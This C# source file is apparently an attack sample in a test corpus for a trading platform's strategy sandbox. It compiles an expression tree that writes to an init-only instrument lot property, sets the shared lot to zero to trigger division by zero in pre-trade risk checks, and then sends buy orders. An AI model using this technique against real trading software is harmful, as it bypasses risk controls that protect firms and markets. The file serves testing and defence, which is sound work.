// Abuses: an expression tree assigns to an init-only property, which the language forbids and the tree does not.
// Harm: a compiled setter for the shared instrument's lot; 0 is a division by zero in every slot's lot check.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Linq.Expressions;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.ExpressionTreeAssignAttack;

public sealed class ExpressionTreeAssignStrategy : Strategy
{
    private readonly Action<Instrument, Quantity> _setLot;

    public ExpressionTreeAssignStrategy()
    {
        ParameterExpression target = Expression.Parameter(typeof(Instrument));
        ParameterExpression value = Expression.Parameter(typeof(Quantity));
        _setLot = Expression.Lambda<Action<Instrument, Quantity>>(
            Expression.Assign(Expression.Property(target, nameof(Instrument.Lot)), value), target, value).Compile();
    }

    public override void OnBook(in BookEvent bookEvent)
    {
        _setLot(Context.Instrument(bookEvent.Instrument), 0);
        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
